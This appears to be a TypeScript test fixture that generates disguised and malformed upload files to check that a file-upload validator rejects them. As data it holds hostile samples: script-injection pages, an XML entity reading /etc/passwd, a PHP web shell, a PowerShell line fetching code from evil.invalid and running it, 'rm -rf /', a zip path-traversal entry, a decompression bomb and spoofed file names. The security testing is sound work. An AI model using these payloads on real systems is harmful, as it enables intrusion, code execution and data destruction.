import { gzipSync } from 'node:zlib';
import type { HostileFile } from './hostile-file.ts';

/** The string that every virus scanner recognises; written in two parts so that scanners leave this file alone. */
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

function latin(text: string): Buffer {
  return Buffer.from(text, 'latin1');
}

/** Beginnings of files of other types, which are sent under an accepted name. */
const OTHERS: Readonly<Record<string, Buffer>> = {
  'HTML page': latin('<!doctype html><html><script>alert(1)</script></html>'),
  'SVG with a script': latin('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  'SVG with an entity bomb': latin(
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg>&b;</svg>',
  ),
  'XML that reads a file': latin(
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>',
  ),
  'script of a browser': latin('alert(document.cookie)'),
  'script of a shell': latin('#!/bin/sh\nrm -rf /\n'),
  'script of PHP': latin('<?php system($_GET["c"]); ?>'),
  'script of PowerShell': latin('Invoke-WebRequest http://evil.invalid | iex'),
  'batch file': latin('@echo off\r\nformat c:\r\n'),
  'EICAR test file': latin(EICAR),
  'program of Windows': Buffer.concat([latin('MZ\u0090\u0000'), Buffer.alloc(200)]),
  'program of Linux': Buffer.concat([latin('\u007fELF\u0002\u0001\u0001'), Buffer.alloc(200)]),
  'program of macOS': Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(200)]),
  'class of Java': Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]),
  'module of WebAssembly': Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]),
  'shortcut of Windows': Buffer.concat([Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0]), Buffer.alloc(80)]),
  'old document of Word with macros': Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(1_000),
  ]),
  'document of Word with macros': zipOf('word/vbaProject.bin', '[Content_Types].xml'),
  'sheet of Excel with macros': zipOf('xl/vbaProject.bin', '[Content_Types].xml'),
  'text of RTF': latin('{\\rtf1\\ansi{\\object\\objocx}}'),
  archive: zipOf('a.txt', 'b.txt'),
  'archive with a path that leaves it': zipOf('../../etc/cron.d/x', 'a'),
  'archive that unpacks to 50 MB': gzipSync(Buffer.alloc(50 * 1024 * 1024), { level: 9 }),
  'archive of 7z': Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]),
  'archive of RAR': latin('Rar!\u001a\u0007\u0001\u0000'),
  'GIF picture': latin('GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;'),
  'WebP picture': latin('RIFF\u0010\u0000\u0000\u0000WEBPVP8 '),
  'BMP picture': Buffer.concat([latin('BM'), Buffer.alloc(60)]),
  'TIFF picture': Buffer.from([0x49, 0x49, 0x2a, 0, 8, 0, 0, 0, 0, 0]),
  'HEIC picture': latin('\u0000\u0000\u0000\u0018ftypheic\u0000\u0000\u0000\u0000mif1heic'),
  'picture of Photoshop': latin('8BPS\u0000\u0001'),
  'icon of Windows': Buffer.from([0, 0, 1, 0, 1, 0, 16, 16]),
  'page of PostScript': latin('%!PS-Adobe-3.0\n(/etc/passwd) (r) file'),
  'MP3 sound': latin('ID3\u0003\u0000\u0000\u0000\u0000\u0000\u0000'),
  'MP4 film': latin('\u0000\u0000\u0000\u0018ftypmp42\u0000\u0000\u0000\u0000mp42isom'),
  'database of SQLite': latin('SQLite format 3\u0000'),
  'mail with an attachment': latin('MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n--x'),
  table: latin('=cmd|calc!A1,2\r\n'),
  'nothing but zeros': Buffer.alloc(5_000),
  'one byte': Buffer.from([0x25]),
  'half of the first bytes of a PDF': latin('%PD'),
  'half of the first bytes of a PNG': Buffer.from([0x89, 0x50, 0x4e]),
  'link of a browser': latin('[InternetShortcut]\nURL=file:///etc/passwd'),
};

/** An archive with two empty files. */
function zipOf(...names: readonly string[]): Buffer {
  const entries = names.map((name) => {
    const header = Buffer.alloc(30);
    header.writeUInt32LE(0x04034b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt16LE(name.length, 26);
    return Buffer.concat([header, latin(name)]);
  });
  return Buffer.concat(entries);
}

/** Files of other types under each accepted name, and real files under names and types that state something else. */
export function hostileTypes(real: {
  readonly pdf: Buffer;
  readonly png: Buffer;
  readonly jpeg: Buffer;
}): readonly HostileFile[] {
  const disguised = Object.entries(OTHERS).flatMap(([name, bytes]) =>
    [
      ['x.pdf', 'application/pdf'],
      ['x.jpg', 'image/jpeg'],
      ['x.png', ''],
    ].map(
      ([file = '', declared = '']): HostileFile => ({
        name: `${name} as ${file}`,
        file,
        declared,
        bytes,
        fates: ['type_unknown'],
      }),
    ),
  );
  const mismatches = [
    ['x.jpg', 'image/jpeg', real.pdf],
    ['x.png', '', real.pdf],
    ['x.pdf', 'application/pdf', real.png],
    ['x.jpg', 'image/jpeg', real.png],
    ['x.png', 'image/png', real.jpeg],
    ['x.pdf', 'text/html', real.pdf],
    ['x.pdf', 'application/x-msdownload', real.pdf],
    ['x.png', 'image/svg+xml', real.png],
    ['x.jpg', 'image/png', real.jpeg],
    ['x.pdf.exe', 'application/pdf', real.pdf],
    ['x.pdf.html', '', real.pdf],
    ['x.svg', '', real.png],
    ['x.php', '', real.jpeg],
    ['x.jpg.php', 'image/jpeg', real.jpeg],
    ['x', '', real.pdf],
    ['pdf', '', real.pdf],
    ['.pdf/', '', real.pdf],
    ['x.pdf\u0000.exe', '', real.pdf],
    ['x.pdf ', '', real.pdf],
    ['x.\u202efdp', '', real.pdf],
  ] as const;
  return [
    ...disguised,
    ...mismatches.map(
      ([file, declared, bytes]): HostileFile => ({
        name: `a real file as ${JSON.stringify(file)} of ${declared}`,
        file,
        declared,
        bytes,
        fates: ['type_mismatch'],
      }),
    ),
    { name: 'an empty file', file: 'x.pdf', declared: '', bytes: Buffer.alloc(0), fates: ['empty'] },
    {
      name: 'a PDF of more than 10 MB',
      file: 'x.pdf',
      declared: '',
      bytes: Buffer.concat([real.pdf, Buffer.alloc(10 * 1024 * 1024)]),
      fates: ['too_large'],
    },
  ];
}
